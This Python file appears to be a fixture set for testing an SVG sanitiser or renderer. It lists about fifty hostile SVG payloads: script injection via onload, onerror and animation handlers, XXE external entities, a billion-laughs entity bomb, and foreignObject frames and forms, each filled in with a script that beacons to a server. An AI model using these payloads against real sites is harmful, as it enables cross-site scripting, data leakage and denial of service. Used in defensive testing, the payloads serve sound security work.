"""Pictures as an attacker would leave them in a run: each tries to run a script, or to call home.

`TITLE` is the script that each tries to run, `URL` an address of its own on a server that counts.
"""

import gzip

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
HARMLESS = f'<svg {SVG} viewBox="0 0 9 9"><path d="M0 0 9 9"/></svg>'


def inside(text):
    """A picture with something in it."""
    return f'<svg {SVG} viewBox="0 0 9 9"><path d="M0 0 9 9"/>{text}</svg>'


def foreign(text):
    return inside(f'<foreignObject width="9" height="9"><div {HTML}>{text}</div></foreignObject>')


PICTURES = {
    "onload": f'<svg {SVG} onload="TITLE"><path d="M0 0"/></svg>',
    "comment": f'<!-- <svg onload="TITLE"> -->{HARMLESS}',
    "comment-script": f"<!-- <svg><script>TITLE</script></svg> -->{HARMLESS}",
    "instruction": f'<?x <svg onload="TITLE"> ?>{HARMLESS}',
    "stylesheet-instruction": f'<?xml-stylesheet type="text/css" href="URL"?>{HARMLESS}',
    "doctype": f"<!DOCTYPE svg [<!ENTITY x '<svg onload=\"TITLE\">'>]>{HARMLESS}",
    "doctype-entity": f'<!DOCTYPE svg [<!ENTITY x "<script>TITLE</script>">]>{inside("&x;")}',
    "doctype-external": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "URL">]>{inside("<desc>&x;</desc>")}',
    "doctype-subset": f'<!DOCTYPE svg SYSTEM "URL">{HARMLESS}',
    "cdata-desc": inside(f'<desc><p {HTML}><![CDATA[><img src=x onerror="TITLE">]]></p></desc>'),
    "cdata-title": inside(f"<title><p {HTML}><![CDATA[><script>TITLE</script>]]></p></title>"),
    "cdata-style": inside('<style><![CDATA[</style><img src=x onerror="TITLE">]]></style>'),
    "entities-desc": inside("<desc>&lt;img src=x onerror='TITLE'&gt;</desc>"),
    "html-desc": inside('<desc><img src="x" onerror="TITLE"/></desc>'),
    "html-title": inside('<title><img src="URL"/></title>'),
    "script": inside("<script>TITLE</script>"),
    "script-cdata": inside("<script><![CDATA[TITLE]]></script>"),
    "script-link": inside('<script xlink:href="URL"/>'),
    "script-prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>TITLE</s:script></s:svg>{HARMLESS}',
    "animate-begin": inside('<animate attributeName="x" dur="1s" onbegin="TITLE"/>'),
    "set-begin": inside('<set attributeName="x" to="1" onbegin="TITLE"/>'),
    "animate-href": inside(
        '<a id="l"><animate attributeName="href" values="javascript:TITLE"/><text y="9">x</text></a>'
        '<image href="x" onerror="document.getElementById(\'l\')&amp;&amp;(TITLE)"/>'
    ),
    "set-href": inside('<image><set attributeName="href" to="URL"/></image>'),
    "link-javascript": inside(
        '<a xlink:href="javascript:TITLE"><path d="M0 0 9 9"/></a><image href="URL"/>'
    ),
    "image": inside('<image href="URL" width="9" height="9"/>'),
    "image-error": inside('<image href="x:" onerror="TITLE"/>'),
    "use": inside('<use href="URL#x"/><image xlink:href="URL"/>'),
    "filter-image": inside(
        '<filter id="f"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "style-import": inside("<style>@import 'URL';</style>"),
    "style-url": inside(
        "<style>*{background-image:url(URL);fill:url(URL#a);cursor:url(URL),auto}</style>"
    ),
    "style-font": inside(
        "<style>@font-face{font-family:f;src:url(URL)}text{font-family:f}</style><text y='9'>x</text>"
    ),
    "style-attribute": f'<svg {SVG} style="background:url(URL)"><path d="M0 0"/></svg>',
    "foreign-image": foreign('<img src="URL" onerror="TITLE"/>'),
    "foreign-frame": foreign('<iframe src="URL"/>'),
    "foreign-srcdoc": foreign('<iframe srcdoc="&lt;script&gt;TITLE&lt;/script&gt;"></iframe>'),
    "foreign-object": foreign('<object data="URL"/><embed src="URL"/>'),
    "foreign-refresh": foreign('<meta http-equiv="refresh" content="0;url=URL"/>'),
    "foreign-form": foreign(
        '<form action="URL"><input name="a" autofocus="autofocus" onfocus="TITLE"/></form>'
        '<form action="URL" id="f"></form><img src="x:" onerror="f.submit()"/>'
    ),
    "foreign-base": foreign('<base href="URL/"/><img src="x.png"/>'),
    "foreign-link": foreign('<link rel="stylesheet" href="URL"/>'),
    "foreign-video": foreign('<video src="URL" autoplay="autoplay" poster="URL"/>'),
    "html-refresh": f'<svg {SVG}><meta {HTML} http-equiv="refresh" content="0;url=URL"/></svg>',
    "html-body": f'<svg {SVG}><body {HTML} onload="TITLE"/></svg>',
    "html-style": inside(
        f'<style {HTML}>@import "URL";</style><p {HTML} style="background:url(URL)">x</p>'
    ),
    "breaks-out": HARMLESS + '<img src="URL" onerror="TITLE">',
    "breaks-attribute": f'<svg {SVG} class="&quot;&gt;&lt;script&gt;TITLE&lt;/script&gt;" onload="TITLE"/>',
    "capitals": '<SVG ONLOAD="TITLE"><SCRIPT>TITLE</SCRIPT></SVG>',
    "no-namespace": '<svg onload="TITLE"><script>TITLE</script></svg>',
    "math": inside(
        f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img {HTML} src="URL" onerror="TITLE"/></mtext></math>'
    ),
    "sixteen": f'<?xml version="1.0" encoding="UTF-16"?><svg {SVG} onload="TITLE"/>',
    "packed": f'<svg {SVG} onload="TITLE"/>',
    "laughs": "<!DOCTYPE svg [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + f"]>{inside('<desc>&a11;</desc>')}",
    "page": '<!doctype html><svg onload="TITLE"></svg><img src="URL">',
}

# What HTML does not obey, pasted into a page; XML may, and they are here for its readers.
QUIET = {
    "doctype-external",
    "doctype-subset",
    "doctype-entity",
    "stylesheet-instruction",
    "script-prefix",
}
QUIET |= {"entities-desc", "cdata-style", "packed", "sixteen", "laughs"}


def payload(name, server):
    """The bytes of a picture whose script tells the title and the server its name."""
    url = f"{server}/{name}"
    script = f"top.document.title='PWNED {name}',new Image().src='{url}'"
    text = PICTURES[name].replace("TITLE", script).replace("URL", url)
    if name == "sixteen":
        return text.encode("utf-16")
    return gzip.compress(text.encode()) if name == "packed" else text.encode()
